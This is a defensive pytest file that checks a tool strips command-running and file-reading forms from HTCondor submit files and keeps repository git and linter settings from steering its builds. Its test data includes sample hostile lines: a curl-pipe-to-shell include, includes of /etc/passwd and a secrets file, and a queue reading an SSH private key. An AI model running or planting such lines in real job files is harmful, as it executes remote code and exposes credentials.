"""No program the kit starts runs or reads anything the checked repository chose (issue 19,
class 1): HTCondor's submit parser never sees a line that runs a command, git ignores the
repository's config on the build's label path, and the linters read only the kit's settings."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from learner_repo import make_clone, plain_git
from test_git import signed_looking_head

from kit import api
from kit.check import linters
from kit.schedulers import get_scheduler
from kit.schedulers.htcondor import plain_submit_text, statements, submit_commands

BASE = "universe = container\ncontainer_image = docker://ghcr.io/a/b:gpu-sha-3f2c1ab\n"
QUEUE = "queue input from jobs/inputs.txt\n"

# Every form of the submit language that runs a program (or reads a file) while condor_submit
# parses, dry run or not, with the reason the kit gives.
RUNS = "runs a program while HTCondor reads the file"
EXECUTING = [
    ("include : curl -s https://example.org/x.sh | sh |", "`include : ... |` " + RUNS),
    ("include:touch /tmp/pwned|", "`include : ... |` " + RUNS),
    ("INCLUDE : id |", "`include : ... |` " + RUNS),
    ("include command : touch /tmp/pwned", "`include command` " + RUNS),
    ("include command into cache.sub : touch /tmp/pwned", "`include command` " + RUNS),
    ("queue input from ls -la |", "`queue ... from ... |` " + RUNS),
    ("queue 3 x, y from ./make-list.sh |", "`queue ... from ... |` " + RUNS),
    ("include : /etc/passwd", "`include` reads another file while HTCondor reads this one"),
    ("include ifexist : ../../secrets.sub", "`include` reads another file while HTCondor reads this one"),
    ("queue input from /home/someone/.ssh/id_rsa", "`queue ... from` reads a file outside the repository"),
    ("queue input from ../../elsewhere.txt", "`queue ... from` reads a file outside the repository"),
]


@pytest.mark.parametrize(("line", "why"), EXECUTING)
def test_each_executing_form_is_an_error_on_its_line(line: str, why: str) -> None:
    text = BASE + line + "\n" + QUEUE
    _, remarks = submit_commands(text)
    assert [(r.severity, r.line, r.message.split(":")[0]) for r in remarks] == [
        ("error", 3, why.split(":")[0])
    ]
    assert remarks[0].fix == "remove the line: write the values into the submit file itself"
    assert plain_submit_text(text) == BASE + QUEUE


def test_a_comment_ending_in_a_backslash_does_not_hide_the_next_line() -> None:
    """HTCondor ends a comment at its line end; the next line is a statement of its own."""
    text = BASE + "# looks harmless \\\ninclude : touch /tmp/pwned |\n" + QUEUE
    _, remarks = submit_commands(text)
    assert [(r.line, r.severity) for r in remarks] == [(4, "error")]
    assert plain_submit_text(text) == BASE + QUEUE


def test_condor_submit_gets_only_the_kits_rebuilt_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stand-in condor_submit records the submit file it is handed: no executing line in it."""
    seen = tmp_path / "seen.sub"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    client = bin_dir / "condor_submit"
    client.write_text(f'#!/bin/sh\ncat "$3" > {seen}\nexit 0\n')
    client.chmod(0o755)
    monkeypatch.setenv("KIT_HTCONDOR_BIN", str(bin_dir))
    text = BASE + "request_gpus = \\\n  1\ninclude command : touch /tmp/pwned\nqueue x from id |\n" + QUEUE
    reading = get_scheduler("htcondor").read_job_file({"jobs/htcondor.sub": text})
    assert seen.read_text() == BASE + "request_gpus = 1\n" + QUEUE
    assert [(r.line, r.severity) for r in reading.remarks] == [(5, "error"), (6, "error")]


LINES = st.sampled_from(
    [line for line, _ in EXECUTING]
    + ["universe = container", "request_gpus = 1", "# a comment", "# ends in \\", "", "x = a \\", "queue"]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(LINES, max_size=12))
def test_the_rebuilt_text_never_holds_an_executing_form(lines: list[str]) -> None:
    """Property: whatever the lines, what condor_submit would get is plain commands and queue
    statements with no `|`, no `include`, and no continuation."""
    text = "\n".join(lines) + "\n"
    for line in plain_submit_text(text).splitlines():
        assert not line.lower().startswith("include")
        assert not line.endswith("\\")
        assert "|" not in line or not line.lower().startswith("queue")
    executing = {line for line, _ in EXECUTING}
    flagged = {s.line for s in statements(text) if s.kind == "runs"}
    assert flagged == {n for n, line in enumerate(lines, start=1) if line in executing}


# -------------------------------------------------------------------------- git on the build path


def test_the_labelling_build_is_not_steered_by_the_repositorys_git_config(tmp_path: Path) -> None:
    """`kit build --style optimized` labels the image with the commit: the repository's own
    `gpg.program` / `log.showSignature` / pager must not run on the way."""
    repo = make_clone(tmp_path)
    marker = tmp_path / "ran"
    script = tmp_path / "steer.sh"
    script.write_text(f'#!/bin/sh\necho "$0 $*" >> {marker}\nexit 1\n')
    script.chmod(0o755)
    signed_looking_head(repo)
    for key in ("gpg.program", "core.pager", "core.fsmonitor", "core.hooksPath"):
        plain_git(repo, "config", key, str(script))
    plain_git(repo, "config", "log.showSignature", "true")
    args = api.build_args(api.prepare(repo / "cuda-exercise", style="optimized"), "docker")
    assert (args["REVISION"], marker.exists()) == (plain_git(repo, "rev-parse", "HEAD"), False)


# ----------------------------------------------------------------------------------- the linters


def test_hadolint_ignores_the_repositorys_config_and_pragmas(tmp_path: Path) -> None:
    if linters.find_tool("hadolint") is None:
        pytest.skip("hadolint is not installed")
    (tmp_path / "Dockerfile").write_text(
        "FROM ubuntu\n# hadolint ignore=DL3008\nRUN apt-get install -y curl\n"
    )
    (tmp_path / ".hadolint.yaml").write_text("ignored: [DL3006, DL3008, DL3015]\n")
    codes = [f.rule for f in linters.hadolint(["Dockerfile"], tmp_path)]
    assert codes == ["DL3006", "DL3008", "DL3015"]


def test_zizmor_ignores_the_repositorys_config_and_comments(tmp_path: Path) -> None:
    if linters.find_tool("zizmor") is None:
        pytest.skip("zizmor is not installed")
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    (folder / "a.yaml").write_text(
        "name: x\non: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@v4 # zizmor: ignore[unpinned-uses]\n"
    )
    for place in (tmp_path / ".github" / "zizmor.yml", tmp_path / "zizmor.yml"):
        place.write_text("rules:\n  unpinned-uses:\n    disable: true\n")
    rules = sorted({f.rule for f in linters.zizmor([".github/workflows/a.yaml"], tmp_path)})
    assert rules == ["artipacked", "excessive-permissions", "unpinned-uses"]


def test_bash_n_reads_no_startup_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    marker = tmp_path / "ran"
    startup = tmp_path / "startup.sh"
    startup.write_text(f"touch {marker}\n")
    monkeypatch.setenv("BASH_ENV", str(startup))
    monkeypatch.setenv("ENV", str(startup))
    monkeypatch.chdir(tmp_path)
    get_scheduler("slurm").read_job_file({"jobs/slurm.sbatch": "#!/bin/bash\nSIF=a.sif\n"})
    assert not marker.exists()
